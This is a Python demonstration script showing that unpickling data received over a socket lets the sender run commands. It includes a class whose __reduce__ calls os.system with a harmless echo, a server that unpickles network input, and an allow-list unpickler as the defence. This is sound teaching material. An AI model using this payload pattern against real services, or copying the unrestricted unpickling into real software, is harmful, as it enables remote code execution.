#!/usr/bin/env python3
"""A harmless proof that whoever sends you a pickle runs programs on your machine.

    python3 pickle_danger.py serve [HOST] [--careful]    wait for pickles, and unpickle them
    python3 pickle_danger.py data [HOST]      send a record, as honest people do
    python3 pickle_danger.py attack [HOST]    send a pickle that orders a command to be run

Without HOST all stay on this machine. Serve '' only where you trust everybody who can call.
--careful looks up names only in a short list, as the documentation of pickle advises.
"""

import argparse
import io
import os
import pickle
import socket
import sys
from contextlib import suppress
from datetime import date

LIMIT = 10_000
ALLOWED = {("datetime", "date"): date}
COMMAND = 'echo "  This line was printed on $(hostname) by user $(id -un)."'


class Attack:
    def __reduce__(self) -> tuple[object, ...]:  # asked by pickle: how can I be made again?
        return os.system, (COMMAND,)  # "call this function with these arguments"


class CarefulUnpickler(pickle.Unpickler):
    def find_class(self, module: str, name: str) -> object:
        if (module, name) not in ALLOWED:
            raise pickle.UnpicklingError(f"the pickle asks for {module}.{name}")
        return ALLOWED[module, name]


def serve(host: str, port: int, careful: bool) -> None:
    unpickler = CarefulUnpickler if careful else pickle.Unpickler
    with socket.create_server((host, port)) as listener:
        print("Listening at", listener.getsockname(), flush=True)
        while True:
            sock, _address = listener.accept()
            with sock, sock.makefile("rb") as stream:
                try:
                    data = stream.read(LIMIT)
                    print(f"A pickle of {len(data)} bytes", flush=True)
                    print("  Loaded:", repr(unpickler(io.BytesIO(data)).load()), flush=True)
                except Exception as error:  # a pickle can raise anything at all
                    print(f"  Refused: {error}", flush=True)


def send(host: str, port: int, thing: object) -> None:
    with socket.create_connection((host, port)) as sock:
        sock.sendall(pickle.dumps(thing, protocol=4))
    print("Sent", repr(thing) if not isinstance(thing, Attack) else "something else")


if __name__ == "__main__":
    parser = argparse.ArgumentParser(description="See what a pickle can do.")
    parser.add_argument("role", choices=["serve", "data", "attack"])
    parser.add_argument("host", nargs="?", default="127.0.0.1", help="listen here, or send there")
    parser.add_argument("--careful", action="store_true", help="serve: restrict the unpickler")
    parser.add_argument("-p", metavar="PORT", type=int, default=1060, help="TCP port (1060)")
    args = parser.parse_args()
    record = {"name": "Unix epoch", "day": date(1970, 1, 1)}
    try:
        with suppress(KeyboardInterrupt):
            if args.role == "serve":
                serve(args.host, args.p, args.careful)
            else:
                send(args.host, args.p, Attack() if args.role == "attack" else record)
    except OSError as error:
        sys.exit(f"{args.host!r} port {args.p}: {error}")
